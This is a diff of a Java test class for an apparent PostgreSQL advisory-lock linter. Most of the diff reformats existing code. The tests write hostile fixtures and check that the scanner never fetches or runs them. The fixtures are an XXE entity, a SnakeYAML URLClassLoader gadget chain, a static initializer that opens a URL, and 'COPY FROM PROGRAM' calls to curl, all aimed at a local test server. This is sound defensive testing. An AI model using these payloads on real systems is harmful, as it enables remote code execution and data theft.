@@ -5,9 +5,9 @@ import static org.assertj.core.api.Assertions.assertThat;
 import com.sun.net.httpserver.HttpServer;
 import io.github.pgadvisorylint.core.analysis.AnalysisResult;
 import io.github.pgadvisorylint.core.analysis.Analyzer;
-import io.github.pgadvisorylint.core.model.PoolingEvidence;
 import io.github.pgadvisorylint.core.facts.FileFacts;
 import io.github.pgadvisorylint.core.model.LockSite;
+import io.github.pgadvisorylint.core.model.PoolingEvidence;
 import io.github.pgadvisorylint.core.mybatis.MyBatisMapperFrontEnd;
 import io.github.pgadvisorylint.core.source.SourceFile;
 import io.github.pgadvisorylint.core.sql.SqlAnalyzer;
@@ -63,7 +63,9 @@ class HostileInputTest {
         server.createContext("/", exchange -> {
             requests.add(exchange.getRequestURI().toString());
             String path = exchange.getRequestURI().getPath();
-            byte[] body = (path.endsWith(".dtd") ? "<!ENTITY leak \"pool_mode = transaction\">" : "pool_mode = transaction")
+            byte[] body = (path.endsWith(".dtd")
+                            ? "<!ENTITY leak \"pool_mode = transaction\">"
+                            : "pool_mode = transaction")
                     .getBytes(StandardCharsets.UTF_8);
             exchange.sendResponseHeaders(200, body.length);
             exchange.getResponseBody().write(body);
@@ -137,9 +139,12 @@ class HostileInputTest {
 
     @Test
     void anOrdinaryMapperWithARemoteDoctypeIsReadWithoutFetchingIt() throws Exception {
-        Files.writeString(root.resolve("JobMapper.xml"), "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n"
-                + "<!DOCTYPE mapper PUBLIC \"-//mybatis.org//DTD Mapper 3.0//EN\" \"" + base + "/mybatis-3-mapper.dtd\">\n"
-                + "<mapper namespace=\"a.JobMapper\"><select id=\"lock\">SELECT pg_advisory_xact_lock(77) WHERE 1 &lt; 2</select></mapper>\n");
+        Files.writeString(
+                root.resolve("JobMapper.xml"),
+                "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n"
+                        + "<!DOCTYPE mapper PUBLIC \"-//mybatis.org//DTD Mapper 3.0//EN\" \"" + base
+                        + "/mybatis-3-mapper.dtd\">\n"
+                        + "<mapper namespace=\"a.JobMapper\"><select id=\"lock\">SELECT pg_advisory_xact_lock(77) WHERE 1 &lt; 2</select></mapper>\n");
         AnalysisResult r = analyze();
         assertThat(r.model().sites()).extracting(LockSite::display).containsExactly("pg_advisory_xact_lock(77)");
         assertThat(requests).isEmpty();
@@ -150,31 +155,40 @@ class HostileInputTest {
         String trap = Trap.class.getName();
         Files.createDirectories(root.resolve("src/main/java/evil"));
         Files.createDirectories(root.resolve("src/main/resources/META-INF/services"));
-        Files.writeString(root.resolve("src/main/java/evil/Loader.java"), "package evil;\n"
-                + "class Loader {\n"
-                + "  static { try { Class.forName(\"" + trap + "\"); new java.net.URL(\"" + base + "/java\").openStream(); }"
-                + " catch (Exception e) { } }\n"
-                + "  void f(java.sql.Connection c) throws Exception {\n"
-                + "    java.util.ServiceLoader.load(java.sql.Driver.class).iterator().next();\n"
-                + "    c.createStatement().execute(\"SELECT pg_advisory_lock(1); COPY t FROM PROGRAM 'curl " + base + "/sql'\");\n"
-                + "  }\n}\n");
+        Files.writeString(
+                root.resolve("src/main/java/evil/Loader.java"),
+                "package evil;\n"
+                        + "class Loader {\n"
+                        + "  static { try { Class.forName(\"" + trap + "\"); new java.net.URL(\"" + base
+                        + "/java\").openStream(); }"
+                        + " catch (Exception e) { } }\n"
+                        + "  void f(java.sql.Connection c) throws Exception {\n"
+                        + "    java.util.ServiceLoader.load(java.sql.Driver.class).iterator().next();\n"
+                        + "    c.createStatement().execute(\"SELECT pg_advisory_lock(1); COPY t FROM PROGRAM 'curl "
+                        + base + "/sql'\");\n"
+                        + "  }\n}\n");
         Files.writeString(root.resolve("src/main/resources/META-INF/services/java.sql.Driver"), trap + "\n");
         Files.writeString(root.resolve("src/main/resources/mapper.xml"), xxe());
-        Files.writeString(root.resolve("src/main/resources/application.yml"),
+        Files.writeString(
+                root.resolve("src/main/resources/application.yml"),
                 "gadget: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"" + base
                         + "/yaml\"]]]]\n"
                         + "trap: !!" + trap + " {}\n"
                         + "spring:\n  datasource:\n    url: jdbc:postgresql://db:5432/app\n");
-        Files.writeString(root.resolve("src/main/resources/V1__copy.sql"),
+        Files.writeString(
+                root.resolve("src/main/resources/V1__copy.sql"),
                 "COPY t FROM PROGRAM 'curl " + base + "/program';\nSELECT pg_advisory_xact_lock(2);\n");
 
         AnalysisResult r = analyze();
 
         assertThat(requests).as("HTTP requests made during the scan").isEmpty();
-        assertThat(System.getProperty(Trap.LOADED_PROPERTY)).as("Trap initialised").isNull();
+        assertThat(System.getProperty(Trap.LOADED_PROPERTY))
+                .as("Trap initialised")
+                .isNull();
         assertThat(r.model().sites()).hasSizeGreaterThanOrEqualTo(2);
         // nothing from the file behind the XML entity became evidence
-        assertThat(r.model().poolingEvidence()).extracting(PoolingEvidence::description)
+        assertThat(r.model().poolingEvidence())
+                .extracting(PoolingEvidence::description)
                 .noneMatch(d -> d.contains("pgbouncer") || d.contains("transaction"));
         assertThat(r.notifications()).noneMatch(n -> n.message().contains("TOP-SECRET"));
     }
